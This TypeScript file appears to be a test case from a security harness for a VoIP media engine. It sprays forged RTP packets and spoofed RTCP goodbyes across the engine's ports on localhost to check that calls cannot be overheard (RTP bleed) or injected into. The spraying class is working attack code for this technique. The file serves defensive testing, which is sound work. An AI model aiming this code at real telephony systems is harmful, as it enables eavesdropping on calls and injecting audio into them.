import { createSocket, type Socket } from 'node:dgram';
import { type Arena, pause } from '../support/arena.ts';
import type { Attack } from '../support/attack.ts';

const HEADER = 12;
const SSRC = 0x5bad_5bad;
/** What a phone with its media settings as most have them behind a router needs of Asterisk; the softswitch needs none of it. */
const NAT_FIELDS = { rtp_symmetric: 'yes', rewrite_contact: 'yes', force_rport: 'yes' };

/** Sound that nobody asked for, from an address that is nobody's; and an ear for what comes back. */
class Sprayer {
  readonly #socket: Socket;
  #number = 0;
  #spoken = 0;
  received = 0;

  private constructor(socket: Socket) {
    this.#socket = socket;
    socket.on('message', () => this.received++);
    socket.on('error', () => {});
  }

  static async open(arena: Arena): Promise<Sprayer> {
    const socket = createSocket({ type: 'udp4', sendBufferSize: 1024 * 1024 });
    await new Promise<void>((resolve) => socket.bind(0, arena.newAddress(), resolve));
    arena.onClose(() => socket.close());
    return new Sprayer(socket);
  }

  /** `ssrc` as that of the call, `sequence` running ahead of it, so that it would win where it were believed. */
  async spray(ports: readonly number[], rounds: number): Promise<void> {
    for (let round = 0; round < rounds; round++) {
      for (const port of ports) {
        const packet = Buffer.alloc(HEADER + 160, 0x2a);
        packet.writeUInt8(0x80, 0);
        packet.writeUInt8(8, 1);
        packet.writeUInt16BE((this.#number * 3) & 0xffff, 2);
        packet.writeUInt32BE((this.#number * 480) >>> 0, 4);
        packet.writeUInt32BE(0xc0ffee01, 8);
        this.#number++;
        this.#socket.send(packet, port, '127.0.0.1');
        // RTCP: a goodbye in the name of everybody.
        if (round % 10 === 0) this.#socket.send(Buffer.from('81cb0001c0ffee01', 'hex'), port, '127.0.0.1');
      }
      await pause(5);
    }
  }

  /** A stream of its own to each port, in perfect order, at the pace of speech and faster: what an engine that learns from sound learns. */
  async speak(ports: readonly number[], count: number): Promise<void> {
    for (let n = 0; n < count; n++) {
      for (const port of ports) {
        const packet = Buffer.alloc(HEADER + 160, 0x2a);
        packet.writeUInt8(0x80, 0);
        packet.writeUInt8(8, 1);
        packet.writeUInt16BE((this.#spoken + n) & 0xffff, 2);
        packet.writeUInt32BE(((this.#spoken + n) * 160) >>> 0, 4);
        packet.writeUInt32BE(SSRC, 8);
        this.#socket.send(packet, port, '127.0.0.1');
      }
      await pause(2);
    }
    this.#spoken += count;
  }
}

const isEven = (port: number): boolean => port % 2 === 0;

export const f12: Attack = {
  id: 'F12',
  title: 'RTP bleed and injection',
  what: 'Sound is sent to all ports of the engine before, during and after calls: where it is taken for the phone’s, the attacker hears the call (RTP bleed) or is heard in it (injection).',
  limits: {
    'packets the attacker got': { atMost: 0 },
    'injected before answer, heard': { atMost: 0 },
    'call under attack from its start loses': { atMost: 0 },
    'call that takes over the ports loses': { atMost: 0 },
    'phones behind NAT shut out': { atMost: 0 },
    'phones behind NAT hear a stranger': { atMost: 0 },
  },
  async run(arena) {
    const sprayer = await Sprayer.open(arena);
    const [first, last] = arena.engine.rtpPorts;
    const all = Array.from({ length: last - first + 1 }, (_, n) => first + n);
    const rounds = arena.scaled(60, 400);
    // 1. During a call: its ports, and all others.
    await sprayer.spray(arena.reference.ports, rounds * 5);
    await sprayer.spray(all, Math.ceil(rounds / 20));
    // 2. Before and while a call is answered.
    let spraying: Promise<void> = Promise.resolve();
    const attacked = await arena.newCall({
      beforeAnswer: async () => {
        spraying = sprayer.spray(all, Math.ceil(rounds / 10));
        await pause(100);
      },
    });
    await spraying;
    attacked.startCounting();
    await sprayer.spray(attacked.ports, rounds);
    await pause(200);
    const heardAtStart = attacked.foreign;
    const lostAtStart = attacked.lost;
    // 3. After it: the ports are free, and taken by the next.
    const ports = attacked.ports;
    await attacked.hangUp();
    await sprayer.spray(ports, rounds);
    const next = await arena.newCall();
    next.startCounting();
    await sprayer.spray([...ports, ...next.ports], rounds);
    await pause(200);
    // 4. Phones behind NAT, whose SDP names an address that means nothing here: nothing but the sound itself says where they are.
    const natted = await arena
      .newCall({
        fields: NAT_FIELDS,
        behindNat: { from: arena.newAddress(), named: '10.9.9.9' },
        beforeAnswer: () => sprayer.speak(all.filter(isEven), 32),
      })
      .catch(() => undefined);
    natted?.startCounting();
    if (natted) await sprayer.speak(natted.ports, rounds);
    await pause(200);
    return {
      'phones behind NAT shut out': natted?.isHeard ? 0 : 1,
      'phones behind NAT hear a stranger': natted?.foreign ?? 0,
      'packets the attacker got': sprayer.received,
      'injected before answer, heard': heardAtStart,
      'call under attack from its start loses': lostAtStart,
      'call that takes over the ports loses': next.lost + next.foreign,
    };
  },
};
